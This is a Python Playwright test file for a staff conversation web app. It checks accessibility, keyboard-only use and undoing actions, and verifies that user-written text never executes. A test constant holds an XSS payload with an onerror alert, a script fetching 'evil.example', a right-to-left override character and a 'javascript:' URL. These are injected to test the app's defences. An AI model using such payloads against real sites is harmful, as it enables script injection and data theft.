"""A conversation in Chromium: readable by everybody on any screen, worked on with keys and without script, and nothing of it runs."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request, expect

from tests.browser.visiting import chromium, come_in, follow, must_be_sound, must_open
from tests.fakes.staff_conversation import HELPER, MEREL, TalkDay, a_full_conversation, open_talk_day, post

pytestmark = pytest.mark.browser

EVIL = "</p><img src=x onerror=alert(1)><script>fetch('https://evil.example/')</script>\u202e"


@pytest.fixture(scope="module")
def day(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TalkDay]:
    with open_talk_day(tmp_path_factory.mktemp("talk") / "home") as opened:
        a_full_conversation(opened)
        yield opened


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def page(browser: Browser, day: TalkDay) -> Iterator[Page]:
    with come_in(browser, **day.rooms()) as opened:
        yield opened


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (375, "dark")])
def test_everybody_can_read_it_with_every_part_open(page: Page, width: int, scheme: str) -> None:
    for path in ("/cases/1?label=2", "/cases/1/timeline", "/questions"):
        must_open(page, path, width=width, scheme=scheme)
        page.evaluate("document.querySelectorAll('main details').forEach((one) => { one.open = true; })")
        must_be_sound(page, (path, "open", width))


def test_a_note_is_written_with_keys_alone(page: Page) -> None:
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto("/cases/1")
    page.locator("#inside summary", has_text="Notitie schrijven").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.type("Met toetsen geschreven")
    page.keyboard.press("Tab")
    with page.expect_navigation():
        page.keyboard.press("Enter")
    assert page.url.endswith("/cases/1#inside")
    expect(page.locator("#inside .notes")).to_contain_text("Met toetsen geschreven")


def test_a_conversation_ends_and_the_ending_is_taken_back(page: Page) -> None:
    page.goto("/cases/1")
    page.locator("#ending summary").click()
    page.get_by_label("Geen antwoord nodig").check()
    with page.expect_navigation(url="**/cases/1?did=*"):  # the page takes that out of its address once it is there
        page.locator("#ending button.primary").click()
    expect(page.locator("#ending")).to_contain_text("Geen antwoord nodig")
    follow(page.locator("#ending").get_by_role("button", name="Ongedaan maken"))
    page.goto("/cases/1")
    expect(page.locator("#ending summary")).to_be_visible()


def test_nothing_that_somebody_wrote_runs(page: Page, day: TalkDay) -> None:
    """I9 in a browser: no dialog, no request to elsewhere, wherever words of others stand."""
    trapped: list[str] = []

    def on_dialog(one: Dialog) -> None:
        trapped.append(one.message)
        one.dismiss()

    def on_request(one: Request) -> None:
        if "evil.example" in one.url:
            trapped.append(one.url)

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    evil = replace(MEREL, native_id=EVIL, name=EVIL)
    day.hear(post("e1", EVIL, evil, thread="te", title=EVIL, url="javascript:alert(1)"))
    day.hear(post("e2", EVIL, replace(HELPER, native_id="e" + EVIL, name=EVIL), thread="te"), directed=False)
    case_id = max(row.case_id for row in day.desk.cases.rows())
    day.talks.notes.add(case_id, EVIL, EVIL)
    day.talks.questions.ask(case_id, "Bram Vos", EVIL, EVIL)
    for path in (f"/cases/{case_id}", f"/cases/{case_id}/timeline", "/questions"):
        page.goto(path)
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    page.remove_listener("dialog", on_dialog)
    page.remove_listener("request", on_request)
    assert trapped == []
    page.goto(f"/cases/{case_id}")
    assert "⟨U+202E⟩" in page.inner_text("main")
